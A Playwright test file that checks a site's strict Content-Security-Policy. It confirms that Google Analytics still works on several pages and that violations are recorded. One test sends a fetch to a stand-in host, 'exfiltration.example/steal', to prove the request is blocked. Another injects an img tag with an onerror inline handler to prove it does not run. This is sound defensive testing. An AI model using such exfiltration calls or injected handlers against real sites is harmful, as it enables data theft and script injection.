// Every page, with analytics on (the main build), loads without a single Content-Security-Policy
// violation: the policy is strict and still lets the site and Google Analytics work. There is no
// network here, so Google's tag script is answered locally with a stand-in that makes the kinds
// of requests the real one makes (a collect call and a pixel).
import { expect, test, type Page } from '@playwright/test'

type Violation = { directive: string; blocked: string; sample: string }

const STUB_GTAG_JS = `
  // Stand-in for gtag.js: what the real script does that the policy governs.
  fetch('https://region1.google-analytics.com/g/collect?v=2&tid=G-E2ETEST01&en=page_view', { method: 'POST', mode: 'no-cors', keepalive: true }).catch(() => {});
  new Image().src = 'https://www.google-analytics.com/g/collect?v=2&tid=G-E2ETEST01&en=pixel';
`

/** Records every policy violation the page reports, and answers Google's hosts locally. */
async function watchPolicy(page: Page): Promise<{ gtagRequests: () => number; violations: () => Promise<Violation[]> }> {
  await page.addInitScript(() => {
    const seen: Violation[] = []
    Object.defineProperty(window, '__cspViolations', { value: seen })
    document.addEventListener(
      'securitypolicyviolation',
      (event) => seen.push({ directive: event.effectiveDirective, blocked: event.blockedURI, sample: event.sample }),
      true,
    )
  })
  let gtagRequests = 0
  await page.route('https://www.googletagmanager.com/**', (route) => {
    gtagRequests += 1
    return route.fulfill({ contentType: 'text/javascript', body: STUB_GTAG_JS })
  })
  await page.route(/^https:\/\/[^/]*google-analytics\.com\//, (route) => route.fulfill({ status: 204 }))
  return {
    gtagRequests: () => gtagRequests,
    violations: () => page.evaluate(() => (window as unknown as { __cspViolations: Violation[] }).__cspViolations),
  }
}

/** Lets late requests (analytics, lazy images) happen before the violations are read. */
async function settle(page: Page): Promise<void> {
  await page.waitForLoadState('networkidle')
}

test.describe('Content-Security-Policy in the browser, analytics on', () => {
  for (const [name, path, status] of [
    ['home page', '/', 200],
    ['contact page', '/contact', 200],
    ['404 page', '/no-such-page-for-the-csp-test', 404],
  ] as const) {
    test(`the ${name} loads Google Analytics and breaks no rule of the policy`, async ({ page }) => {
      const policy = await watchPolicy(page)
      const response = await page.goto(path)
      expect(response?.status()).toBe(status)
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
      await settle(page)
      expect(policy.gtagRequests()).toBeGreaterThan(0)
      expect(await policy.violations()).toEqual([])
    })
  }

  test('following the footer link to Contact Us breaks no rule either', async ({ page }) => {
    const policy = await watchPolicy(page)
    await page.goto('/')
    await settle(page)
    await page.getByRole('contentinfo').getByRole('link', { name: 'Contact Us' }).click()
    await expect(page).toHaveURL(/\/contact$/)
    await expect(page.getByRole('heading', { level: 1, name: /contact/i })).toBeVisible()
    await settle(page)
    expect(await policy.violations()).toEqual([])
  })

  test('the policy is enforced: a request to a host it does not list is blocked and reported', async ({ page }) => {
    const policy = await watchPolicy(page)
    await page.goto('/contact')
    await settle(page)
    const outcome = await page.evaluate(() =>
      fetch('https://exfiltration.example/steal').then(
        () => 'sent',
        () => 'blocked',
      ),
    )
    expect(outcome).toBe('blocked')
    await expect.poll(policy.violations).toEqual([
      expect.objectContaining({ directive: 'connect-src', blocked: 'https://exfiltration.example/steal' }),
    ])
  })

  test('an inline event handler that got into the page anyway does not run', async ({ page }) => {
    const policy = await watchPolicy(page)
    await page.goto('/contact')
    await settle(page)
    // As if markup had slipped past the sanitizer: the browser must refuse the handler.
    await page.evaluate(() => {
      document.querySelector('main')!.insertAdjacentHTML('beforeend', '<img src="/no-such-image.png" onerror="window.__handlerRan = true">')
    })
    await expect.poll(policy.violations).toEqual([expect.objectContaining({ directive: 'script-src-attr' })])
    expect(await page.evaluate(() => (window as { __handlerRan?: boolean }).__handlerRan)).toBeUndefined()
  })
})
